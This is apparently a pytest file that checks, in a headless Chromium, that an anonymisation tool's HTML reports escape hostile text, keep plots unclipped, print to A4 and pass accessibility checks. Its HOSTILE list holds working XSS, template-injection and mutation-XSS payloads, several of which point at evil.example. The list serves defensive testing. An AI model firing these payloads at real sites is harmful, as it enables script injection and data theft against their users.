"""Pages in a real browser: hostile queries stay texts, nothing is loaded, nothing is clipped, printing works."""

import re

import pytest
from markupsafe import Markup

import axe_core
from properties import daily
from queryveil.audit.survival import Survival
from queryveil.experiments.comparison import Comparison, Outcome
from queryveil.experiments.sweep import Setting, Sweep
from queryveil.log import QueryLog
from queryveil.report.approval import sheet_page
from queryveil.report.beside import write_beside
from queryveil.report.comparison_page import comparison_page
from queryveil.report.decision_sheet import decision_sheet
from queryveil.report.page import internal_page, public_page
from queryveil.report.rendering import inert, render
from report_toys import audit_of, finding, full_audit, manifest, utility

pytestmark = pytest.mark.service("chromium")

OWN = "document.title='owned'"
HOSTILE = [
    f"<script>{OWN}</script>",
    f"</script><script>{OWN}</script>",
    f"</style><script>{OWN}</script>",
    f"</title><script>{OWN}</script>",
    f"</pre></textarea><script>{OWN}</script>",
    f"<img src=x onerror={OWN}>",
    f"<svg onload={OWN}>",
    f"<svg><script>{OWN}</script></svg>",
    f"<svg><animate onbegin={OWN} attributeName=x dur=1s>",
    f'"><script>{OWN}</script>',
    f"' onmouseover='{OWN}",
    f'" autofocus onfocus="{OWN}',
    f'<a href="javascript:{OWN}">click</a>',
    f"javascript:{OWN}",
    "data:text/html,<script>alert(1)</script>",
    "<iframe src=https://evil.example></iframe>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>*{background:url(https://evil.example)}</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example>",
    "<form action=https://evil.example><input name=q>",
    "<object data=https://evil.example></object>",
    "{{ 7*7 }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "${alert(1)} #{alert(1)} <%= 7*7 %>",
    "<!-- --!> <![CDATA[ ]]> <?php system('id') ?>",
    "&lt;script&gt; &#60;b&#62; &amp;",
    "\u202eevil\u202c \u2066hidden\u2069 \u200bzero",
    "nul\0byte \x1b[31mred \x07",
    "line\u2028separator \ufeffmark \x85next",
    "<plaintext>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "\ud7ff\U0010fffd \ue000 private",
]

COUNT_OF_ACTIVE = """() => [...document.querySelectorAll('*')].filter(e =>
    ['SCRIPT','IMG','IFRAME','OBJECT','EMBED','LINK','FORM','INPUT','BASE','MATH','NOSCRIPT','PLAINTEXT','script','animate']
        .includes(e.tagName)
    || [...e.attributes].some(a => a.name.startsWith('on') || a.name === 'style')
    || (e.hasAttribute('href') && !/^(#|[.][.]\\/)/.test(e.getAttribute('href')))
    || (e.tagName === 'STYLE' && e.parentElement.tagName !== 'HEAD')
).map(e => e.outerHTML.slice(0, 80))"""

CLIPPED = """() => {
  const wrong = [], wide = innerWidth >= 1000 || matchMedia('print').matches;  // on a small screen tables may scroll
  const inside = (box, frame, slack) => box.left >= frame.left - slack && box.right <= frame.right + slack
      && box.top >= frame.top - slack && box.bottom <= frame.bottom + slack;
  const main = document.querySelector('main').getBoundingClientRect();
  for (const svg of document.querySelectorAll('svg')) {
    const frame = svg.getBoundingClientRect();
    if (frame.width < 8 || frame.height < 5) wrong.push('too small ' + svg.outerHTML.slice(0, 60));
    const scrolls = svg.closest('.scroll') && !wide;
    if (!scrolls && (frame.left < main.left - 1 || frame.right > main.right + 1))
      wrong.push('outside ' + svg.outerHTML.slice(0, 60));
    for (const part of svg.querySelectorAll('line,path,circle,rect,text'))
      if (!inside(part.getBoundingClientRect(), frame, 1.5)) wrong.push('clipped ' + part.outerHTML.slice(0, 80));
    const labels = [...svg.querySelectorAll('text')];
    labels.forEach((one, i) => labels.slice(i + 1).forEach(other => {
      const a = one.getBoundingClientRect(), b = other.getBoundingClientRect();
      if (a.left < b.right - 1 && b.left < a.right - 1 && a.top < b.bottom - 2 && b.top < a.bottom - 2)
        wrong.push('overlapping ' + one.textContent + ' / ' + other.textContent);
    }));
  }
  for (const table of document.querySelectorAll('.scroll'))
    if (wide && table.scrollWidth > table.clientWidth + 1) wrong.push('a table is cut off');
  const whole = document.documentElement;
  if (whole.scrollWidth > whole.clientWidth + 1) wrong.push('the page is too wide');
  return wrong;
}"""


def log_with(text):
    """A log that shows a text in every part of the internal edition."""
    return QueryLog.of([("ann", text), ("bob", "weather"), ("cleo", "weather")])


def assert_inert(seen):
    """Nothing ran, nothing was fetched, no element came out of a text."""
    assert seen.page.evaluate(COUNT_OF_ACTIVE) == []
    assert [url for url in seen.requests if not url.startswith("file:")] == []
    assert len(seen.requests) == 1
    assert seen.dialogs == []
    assert seen.messages == []  # an attempt that the policy stops would be told here
    assert seen.page.title() != "owned"


@pytest.mark.parametrize("number", daily(((number,) for number in range(len(HOSTILE))), 8))
def test_a_hostile_query_is_shown_as_a_text_and_does_nothing(see, number):
    text = HOSTILE[number]
    log = log_with(text)
    audit = audit_of(finding(title=text, topic=text, explanation=text), parameters={"k_text": text, text: 1})
    seen = see(internal_page(audit, original=log, released=log, purpose=text))
    assert_inert(seen)
    shown = seen.page.evaluate("() => [...document.querySelectorAll('td.text bdi')].map(e => e.textContent)")
    assert shown.count(inert(text)) == 4  # on the sheet, before, after, worst residual
    for bidi in "\u202e\u2066\0":
        assert bidi not in seen.page.inner_text("body")


def test_hostile_settings_stay_inert_in_a_comparison(see):
    outcomes = tuple(outcome(text, risk=0.01 * i, kept=0.5, topic=text) for i, text in enumerate(HOSTILE))
    page = comparison_page(Comparison(outcomes), subject=HOSTILE[0], sweep=Sweep(settings=()))
    assert_inert(see(page))


def test_the_same_checks_reject_a_page_that_does_not_escape(see):
    page = render("base.html.j2", edition="internal")
    for text in (HOSTILE[0], HOSTILE[5], HOSTILE[6], HOSTILE[15]):
        seen = see(page.replace("<main>", f"<main>{Markup(text)}"))
        with pytest.raises(AssertionError):
            assert_inert(seen)
        assert seen.page.title() != "owned"  # and yet the policy stopped it


def outcome(label, *, risk, kept, topic="volume", kind="mechanism"):
    """A setting with a given risk and utility."""
    tasks = (topic, "sessions and volume", "query frequency", "topic profiles", "query suggestion", "categories",
             "contents", "language", "autocomplete", "clicks")  # fmt: skip
    found = audit_of(finding(value=risk), *(utility(key=task, topic=task, value=kept, raw=1.0) for task in tasks))
    return Outcome(
        setting=Setting(kind=kind, name="suppress" if kind == "mechanism" else "frequency", label=label),
        seconds=1.0,
        records=10,
        audit=found,
        survival=Survival(0.5, 0.4, 0.9, 0.3, 0.1),
    )


def crowded_comparison():
    """Many settings close together, with long names, at the edges of the plot."""
    names = [
        "suppress k_text=2",
        "semantic epsilon=10.0 per=query criterion=nsqc",
        "sanitize epsilon=4.0 contribution=2",
    ]
    outcomes = [outcome(f"{name} {i}", risk=0.02 * i, kept=0.05 * i) for i in range(21) for name in names[i % 3 :][:1]]
    outcomes += [outcome("nothing", risk=0.0, kept=0.0), outcome("everything", risk=1.0, kept=1.0)]
    outcomes += [outcome("a rule with a long name of its own", risk=0.3, kept=0.99, kind="rule")]
    return comparison_page(Comparison(tuple(outcomes)), subject="crowded.csv", sweep=Sweep(settings=()))


def page_of(name):
    """One of the three pages, with everything on it."""
    if name == "comparison":
        return crowded_comparison()
    log = QueryLog.of([(f"user {i % 7}", f"text {i % 5}") for i in range(40)] + [("ann", "x" * 5000)])
    return public_page(full_audit()) if name == "public" else internal_page(full_audit(), original=log, released=log)


PAGES = ("internal", "public", "comparison")


@pytest.mark.parametrize("name", PAGES)
def test_no_plot_is_clipped_and_no_label_overlaps(see, name):
    seen = see(page_of(name))
    for width in (1400, 1000, 700):
        seen.page.set_viewport_size({"width": width, "height": 900})
        assert seen.page.evaluate(CLIPPED) == []
    assert_inert(seen)


@pytest.mark.parametrize("name", PAGES)
def test_it_prints_as_pages_of_a4_with_nothing_cut_off(see, name):
    seen = see(page_of(name))
    seen.page.emulate_media(media="print")
    seen.page.set_viewport_size({"width": 680, "height": 1000})  # what A4 leaves between the margins
    assert seen.page.evaluate(CLIPPED) == []
    printed = seen.page.pdf(prefer_css_page_size=True)
    assert printed.startswith(b"%PDF")
    assert 2 <= len(re.findall(rb"/Type\s*/Page\b", printed)) <= 20
    assert re.search(rb"/MediaBox\s*\[\s*0 0 59[456]", printed)


def test_the_clipping_check_rejects_a_plot_that_is_cut_off_and_labels_that_overlap(see):
    page = public_page(audit_of(finding()))
    cut = page.replace(
        "</main>", '<svg viewBox="0 0 9 9" width="90" height="90"><text x="8" y="8">long</text></svg></main>'
    )
    assert see(cut).page.evaluate(CLIPPED) != []
    twice = (
        '<svg viewBox="0 0 90 90" width="90" height="90"><text x="9" y="50">a</text><text x="10" y="50">b</text></svg>'
    )
    assert any("overlapping" in what for what in see(page.replace("</main>", twice)).page.evaluate(CLIPPED))


def test_marks_differ_by_shape_so_that_black_and_white_says_the_same(see):
    seen = see(crowded_comparison())
    assert seen.page.evaluate("() => document.querySelectorAll('.legend .key').length") >= 2
    kinds = seen.page.evaluate(
        "() => [...document.querySelectorAll('.legend .key > *')].map(e => e.tagName + e.getAttribute('class'))"
    )
    assert len(set(kinds)) == len(kinds)


def test_a_manifest_from_a_stranger_cannot_break_the_page(see):
    strange = manifest(mechanism=HOSTILE[0], columns={HOSTILE[5]: HOSTILE[6]}, created=HOSTILE[9], ledger=HOSTILE[11])
    log = log_with("weather")
    assert_inert(see(internal_page(audit_of(**strange), original=log, released=log)))


@pytest.mark.parametrize("name", [*PAGES, "sheet", "beside"])
def test_no_report_keeps_people_from_reading_it(see, axe, tmp_path, name):
    """Axe-core finds no grave fault, by day and by night; widths do not matter but for what scrolls."""
    if name == "sheet":
        html = sheet_page(decision_sheet(full_audit()), manifest())
    elif name == "beside":
        log = QueryLog.of([(f"user {i % 7}", f"text {i % 5}") for i in range(40)])
        html = write_beside(log, log, tmp_path / "beside.html", name="suppress", promise="Nothing.").read_text()
    else:
        html = page_of(name)
    page = see(html).page
    for width in (390, 1280):
        page.set_viewport_size({"width": width, "height": 900})
        for scheme, rules in axe_core.BY_SCHEME.items():
            page.emulate_media(media="screen", color_scheme=scheme)
            assert axe_core.faults(page, axe, *rules) == [], f"{width} px, {scheme}"
